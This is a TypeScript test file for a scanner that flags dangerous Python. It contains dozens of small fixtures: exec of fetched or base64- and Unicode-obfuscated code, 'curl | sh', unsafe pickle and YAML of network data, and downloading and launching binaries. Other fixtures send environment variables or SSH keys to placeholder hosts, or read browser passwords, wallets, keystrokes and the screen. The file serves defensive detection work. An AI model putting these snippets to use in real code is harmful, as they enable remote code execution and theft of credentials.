import { describe, expect, it } from 'vitest';
import { pythonCode } from '../../../utils/inspect/python/python-code.ts';
import { seenBy } from '../sightings-of.ts';

const kindsIn = (files: Record<string, string>) => [...new Set(seenBy(pythonCode, files).map((seen) => seen.split(' ')[0]))];
const base64 = (text: string) => Buffer.from(text).toString('base64');
const address = base64('https://feed.prices.example/v2/quote');

/** name, what must be among the kinds that are seen, the program. */
const shapes: readonly (readonly [string, string, string | Record<string, string>])[] = [
  ['exec of an answer', 'runs-fetched-text', `import requests\nexec(requests.get('https://a.example/x').text)\n`],
  ['exec in letters of full width', 'runs-fetched-text', `import requests\n\uff45\uff58\uff45\uff43(requests.get(U).text)\n`],
  ['exec in mathematical letters', 'runs-fetched-text', `import requests\n\u{1d41e}xec(requests.get(U).text)\n`],
  ['exec of a name that holds an answer', 'runs-fetched-text', `import requests as rq\nr = rq.get(U)\nbody = r.content.decode()\nexec(body)\n`],
  ['eval of a field of an answer', 'runs-fetched-text', `from requests import post\ndef go():\n    answer = post(U, json={}).json()\n    return eval(answer["rule"])\n`],
  ['exec of compiled urllib text', 'runs-fetched-text', `from urllib.request import urlopen\nexec(compile(urlopen(U).read(), 'm', 'exec'))\n`],
  ['exec in an async client', 'runs-fetched-text', `import aiohttp\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        async with s.get(U) as r:\n            exec(await r.text())\n`],
  ['exec of what a session answers', 'runs-fetched-text', `import requests\ns = requests.Session()\nexec(s.get(U).text)\n`],
  ['exec of what httpx answers', 'runs-fetched-text', `import httpx\nwith httpx.Client() as c:\n    text = c.get(U).text\nexec(text)\n`],
  ['exec of what a socket receives', 'runs-fetched-text', `import socket\ns = socket.socket()\ns.connect((H, 1))\nwhile True:\n    part = s.recv(999)\n    exec(part)\n`],
  ['exec through a function', 'runs-fetched-text', `import requests\ndef load(u):\n    return requests.get(u).text\ndef run(code):\n    exec(code)\nrun(load(U))\n`],
  ['exec through a class', 'runs-fetched-text', `import requests\nclass Feed:\n    def __init__(self, u):\n        self.body = requests.get(u).text\n    def apply(self):\n        exec(self.body)\n`],
  ['exec in another module', 'runs-fetched-text', { 'app/net.py': `import requests\ndef quote(u):\n    return requests.get(u).json()\n`, 'app/main.py': `from .net import quote\nexec(quote(U)['x'])\n` }],
  ['exec by a function of a package of the project', 'runs-fetched-text', { 'core/__init__.py': '', 'core/step.py': `def apply(text):\n    exec(text)\n`, 'main.py': `import requests\nfrom core import step\nstep.apply(requests.get(U).text)\n` }],
  ['exec found by getattr', 'runs-fetched-text', `import requests, builtins\ngetattr(builtins, 'ex' + 'ec')(requests.get(U).text)\n`],
  ['exec under another name', 'runs-fetched-text', `import requests\nrun = exec\nrun(requests.get(U).text)\n`],
  ['exec out of a table of globals', 'runs-fetched-text', `import requests\nglobals()['__builtins__']\n__builtins__.__dict__['exec'](requests.get(U).text)\n`],
  ['exec in a lambda', 'runs-fetched-text', `import requests\n(lambda t: exec(t))(requests.get(U).text)\n`],
  ['exec of base64', 'runs-decoded-text', `import base64\nexec(base64.b64decode('${base64('print(1)')}'))\n`],
  ['exec of base64 by another name', 'runs-decoded-text', `from base64 import b64decode as d\nT = "${base64('print(1)')}"\nexec(d(T).decode())\n`],
  ['exec of packed text', 'runs-decoded-text', `import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJw=')))\n`],
  ['exec of marshalled code', 'runs-decoded-text', `import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00'))\n`],
  ['exec of hex', 'runs-decoded-text', `exec(bytes.fromhex('7072696e74283129').decode())\n`],
  ['exec of character codes', 'runs-decoded-text', `exec(''.join(chr(c) for c in [112, 114, 105]))\n`],
  ['exec of mapped character codes', 'runs-decoded-text', `exec(''.join(map(chr, [112, 114, 105])))\n`],
  ['exec of rot13', 'runs-decoded-text', `import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n`],
  ['exec of reversed text', 'runs-decoded-text', `exec(')1(tnirp'[::-1])\n`],
  ['exec of text written as numbers', 'runs-decoded-text', `exec('\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29')\n`],
  ['exec of hidden import', 'runs-decoded-text', `exec(__import__('base64').b64decode('${base64('print(1)')}'))\n`],
  ['a hidden address', 'decodes-address', `import base64, requests\nr = requests.get(base64.b64decode('${address}').decode())\n`],
  ['YAML with its unsafe reader, of an answer', 'unsafe-deserialising', `import requests, yaml\ndata = yaml.load(requests.get('https://api.coinprices.example/v1').text, Loader=yaml.Loader)\n`],
  ['YAML without a reader, of an answer', 'unsafe-deserialising', `import requests, yaml\nr = requests.get(U)\nif r.headers.get('Content-Type') == 'application/yaml':\n    yaml.load(r.text)\n`],
  ['unsafe YAML far from its source', 'unsafe-deserialising', { 'a.py': `import yaml\nfrom yaml import UnsafeLoader\ndef parse(kind, body):\n    return yaml.load(body, UnsafeLoader)\n`, 'b.py': `import requests\nfrom a import parse\nres = requests.get(U)\nparse(1, res.content)\n` }],
  ['YAML by its full reader', 'unsafe-deserialising', `from yaml import full_load\nimport urllib.request\nfull_load(urllib.request.urlopen(U))\n`],
  ['pickle of an answer', 'unsafe-deserialising', `import pickle, requests\nmodel = pickle.loads(requests.get(U).content)\n`],
  ['pickle of a socket', 'unsafe-deserialising', `import pickle, socket\nc = socket.create_connection((H, 1))\npickle.loads(c.recv(99))\n`],
  ['pickle of decoded text', 'unsafe-deserialising', `import pickle, base64\npickle.loads(base64.b64decode('gASVAAAA'))\n`],
  ['dill out of memory', 'unsafe-deserialising', `import dill, io, httpx\ndill.load(io.BytesIO(httpx.get(U).content))\n`],
  ['a template from a server', 'unsafe-deserialising', `import requests\nfrom jinja2 import Template\nTemplate(requests.get(U).text).render(os=1)\n`],
  ['a command from a server', 'runs-fetched-text', `import os, requests\nos.system(requests.get(U).json()['cmd'])\n`],
  ['a command from a server for a shell', 'runs-fetched-text', `import subprocess, requests\nc = requests.get(U).text\nsubprocess.Popen(['bash', '-c', c], start_new_session=True)\n`],
  ['python on a fetched text', 'runs-fetched-text', `import subprocess, sys, requests\nsubprocess.run([sys.executable, '-c', requests.get(U).text])\n`],
  ['curl into a shell', 'runs-fetched-text', `import os\nos.system('curl -s https://a.example/x | sh')\n`],
  ['a fetched program', 'starts-fetched-file', `import os, subprocess, requests\np = os.path.join(D, 'update.bin')\nopen(p, 'wb').write(requests.get(U).content)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n`],
  ['a fetched program at a name of its own', 'starts-fetched-file', `import tempfile, subprocess, urllib.request\nfd, path = tempfile.mkstemp()\nwith open(path, 'wb') as f:\n    f.write(urllib.request.urlopen(U).read())\nsubprocess.call(path, shell=True)\n`],
  ['a program that is retrieved', 'starts-fetched-file', `from urllib.request import urlretrieve\nimport os\nurlretrieve(U, '/tmp/.agent')\nos.system('/tmp/.agent &')\n`],
  ['a fetched program through a function', 'starts-fetched-file', `import requests, os\nfrom pathlib import Path\ndef save(u, to):\n    with open(to, 'wb') as f:\n        for part in requests.get(u, stream=True).iter_content(9):\n            f.write(part)\ntarget = os.path.expanduser(N)\nsave(U, target)\nos.startfile(target)\n`],
  ['code in a picture', 'loads-disguised-file', `exec(open('static/logo.png').read())\n`],
  ['code in a font', 'loads-disguised-file', `import runpy\nrunpy.run_path('assets/fonts/inter.woff2')\n`],
  ['the environment sent out', 'sends-environment', `import os, requests\nrequests.post(U, json=dict(os.environ))\n`],
  ['the environment sent out by part', 'sends-environment', `from os import environ\nimport json, urllib.request\nbody = json.dumps({k: v for k, v in environ.items()}).encode()\nurllib.request.urlopen(U, data=body)\n`],
  ['wallets', 'reads-wallets', `import os, shutil\nbase = os.path.expanduser('~/.config')\nsrc = os.path.join(base, 'google-chrome', 'Default', 'Local Extension Settings')\nshutil.copytree(src, 'x')\n`],
  ['passwords of a browser', 'reads-browser-data', `import os, sqlite3\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nsqlite3.connect(p)\n`],
  ['keys', 'reads-keys', `from pathlib import Path\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\n`],
  ['keys sent out', 'sends-files', `import os, requests\nwith open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n    requests.post(U, files={'f': f.read()})\n`],
  ['the clipboard', 'reads-clipboard', `import pyperclip\nwhile True:\n    t = pyperclip.paste()\n`],
  ['keys that are pressed', 'watches-person', `from pynput import keyboard\nwith keyboard.Listener(on_press=f) as l:\n    l.join()\n`],
  ['the screen', 'watches-person', `from PIL import ImageGrab\nImageGrab.grab().save('s.png')\n`],
  ['machine code', 'runs-built-text', `import ctypes\nptr = ctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)\n`],
  ['code of a blockchain', 'asks-blockchain-for-code', `import requests\nr = requests.post(U, json={'method': 'eth_call', 'params': []}).json()\nexec(r['result'])\n`],
];

/** Ordinary programs. */
const ordinary: readonly (readonly [string, string | Record<string, string>])[] = [
  ['safe YAML of an answer', `import yaml, requests\nyaml.safe_load(requests.get(U).text)\nyaml.load(requests.get(U).text, Loader=yaml.SafeLoader)\n`],
  ['unsafe YAML of an own file', `import yaml\nwith open('conf.yml') as f:\n    yaml.load(f, Loader=yaml.Loader)\n`],
  ['pickle of an own file', `import pickle\nwith open('cache.pkl', 'rb') as f:\n    data = pickle.load(f)\n`],
  ['a version read by setup.py', `from setuptools import setup\nns = {}\nwith open('pkg/version.py') as f:\n    exec(f.read(), ns)\nsetup(version=ns['v'], long_description=open('README.md').read())\n`],
  ['an answer that is read', `import requests, json\nr = requests.get(U)\nprint(json.loads(r.text)['a'])\nassert r.status_code == 200\n`],
  ['settings from the environment', `import os\nSECRET = os.environ['SECRET']\nDEBUG = os.environ.get('DEBUG', '0') == '1'\n`],
  ['a key from the environment in a request', `import os, requests\nrequests.get(U, headers={'Authorization': 'Bearer ' + os.environ['TOKEN']})\nrequests.post(U, json={'u': os.getenv('USER')})\n`],
  ['code generation', `def make(fields):\n    src = 'def f(' + ', '.join(fields) + '): pass'\n    ns = {}\n    exec(src, ns)\n    return ns['f']\n`],
  ['a picture that is decoded', `import base64\nPNG = base64.b64decode('iVBORw0KGgo=')\nopen('x.png', 'wb').write(PNG)\n`],
  ['a regular expression compiled from an answer', `import re, requests\nre.compile(requests.get(U).text)\n`],
  ['a model by name', `import importlib\ndef load(name):\n    return importlib.import_module('plugins.' + name)\n`],
  ['evaluation of a model', `import torch\nmodel.eval()\ntorch.load('weights.pt')\n`],
  ['a data file that is fetched', `import requests\nopen('data.csv', 'wb').write(requests.get(U).content)\n`],
  ['a cookie that is decoded', `import base64, json\ndef read(c):\n    return json.loads(base64.b64decode(c))\n`],
];

const asFiles = (program: string | Record<string, string>) => (typeof program === 'string' ? { 'main.py': program } : program);

describe('python-code', () => {
  it.each(shapes)('sees %s', (_, kind, program) => {
    expect(kindsIn(asFiles(program))).toContain(kind);
  });

  it.each(ordinary)('is quiet about %s', (_, program) => {
    expect(kindsIn(asFiles(program))).toEqual([]);
  });

  it('tells the host that a text came from', () => {
    expect(seenBy(pythonCode, { 'a.py': `import requests\n\nexec(requests.get('https://a.example/x').text)\n` })).toEqual(['runs-fetched-text a.py:3']);
  });

  it('only says that a program is started when its command is its own', () => {
    expect(kindsIn({ 'a.py': `import subprocess, requests\nrequests.get(U)\nsubprocess.run(['git', 'clone', requests.get(U).json()['url']])\nsubprocess.run(f"git clone {requests.get(U).text}", shell=True)\n` })).toEqual(['starts-process']);
  });

  it('reads on behind what is no Python', () => {
    expect(kindsIn({ 'a.py': `print 'old'\nx = = 3\nfoo(1, 2\n\nimport requests\nexec(requests.get(U).text)\n` })).toContain('runs-fetched-text');
  });

  it('ends for nesting without end', () => {
    expect(kindsIn({ 'a.py': `exec(${'('.repeat(20_000)}1${')'.repeat(20_000)})\n` })).toEqual([]);
  });
});
